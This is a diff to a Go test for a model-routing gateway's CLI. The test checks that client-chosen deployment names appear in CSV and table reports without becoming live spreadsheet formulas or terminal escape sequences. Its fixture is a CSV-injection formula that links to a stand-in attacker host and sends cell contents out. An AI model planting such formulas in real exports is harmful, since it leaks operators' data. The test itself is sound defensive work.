@@ -14,9 +14,10 @@ import (
 
 // The gateway logs the deployment name a client asked for even when no such
 // deployment exists (quoted now when it could not be one, but a log from
-// before holds it as it came): `modelrouter report --format csv` must not
-// write it as a live spreadsheet formula, nor the table its escape
-// sequences to the operator's terminal.
+// before holds it as it came). The report sums such calls under
+// (unknown), and a report for one of those names (--deployment) shows it:
+// `modelrouter report --format csv` must not write it as a live spreadsheet
+// formula, nor the table its escape sequences to the operator's terminal.
 func TestReportNeutralisesClientChosenNames(t *testing.T) {
 	s, path := newLogStore(t)
 	formula := `=HYPERLINK("http://evil.example/?"&A1,"click")`
@@ -29,15 +30,20 @@ func TestReportNeutralisesClientChosenNames(t *testing.T) {
 	}
 	require.NoError(t, s.Close())
 
-	out, _, err := runCmd(t, "report", "--db", path, "--format", "csv")
-	require.NoError(t, err)
-	records, err := csv.NewReader(strings.NewReader(out)).ReadAll()
-	require.NoError(t, err)
-	for _, rec := range records[1:] {
-		assert.False(t, strings.ContainsAny(rec[1][:1], "=+-@"), "CSV cell %q would be evaluated as a formula", rec[1])
+	for _, args := range [][]string{nil, {"--deployment", formula}} {
+		out, _, err := runCmd(t, append([]string{"report", "--db", path, "--format", "csv"}, args...)...)
+		require.NoError(t, err)
+		records, err := csv.NewReader(strings.NewReader(out)).ReadAll()
+		require.NoError(t, err)
+		require.Greater(t, len(records), 1, "%v: no rows", args)
+		for _, rec := range records[1:] {
+			assert.False(t, strings.ContainsAny(rec[1][:1], "=+-@"), "CSV cell %q would be evaluated as a formula", rec[1])
+		}
 	}
 
-	out, _, err = runCmd(t, "report", "--db", path)
-	require.NoError(t, err)
-	assert.NotContains(t, out, "\x1b", "raw escape sequences reach the terminal")
+	for _, args := range [][]string{nil, {"--deployment", escape}} {
+		out, _, err := runCmd(t, append([]string{"report", "--db", path}, args...)...)
+		require.NoError(t, err)
+		assert.NotContains(t, out, "\x1b", "%v: raw escape sequences reach the terminal", args)
+	}
 }
